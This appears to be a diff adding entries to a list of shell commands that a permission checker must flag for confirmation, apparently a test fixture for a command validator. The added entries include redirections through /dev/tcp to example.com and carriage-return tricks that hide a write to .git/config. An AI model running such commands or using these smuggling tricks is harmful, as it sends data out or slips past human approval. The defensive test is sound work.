@@ -388,6 +388,11 @@ export const NEEDS_CONFIRMATION: readonly string[] = [
   'echo ${x@P}',
   'coproc ls',
   'ls > ',
+  'sed s/a/b/ file -i',
+  'cat < /dev/tcp/example.com/80',
+  'ls > /dev/tcp/example.com/80',
+  'ls -la\r> .git/config',
+  'ls\r',
 ];
 
 /** Read-only commands that must run without confirmation. */
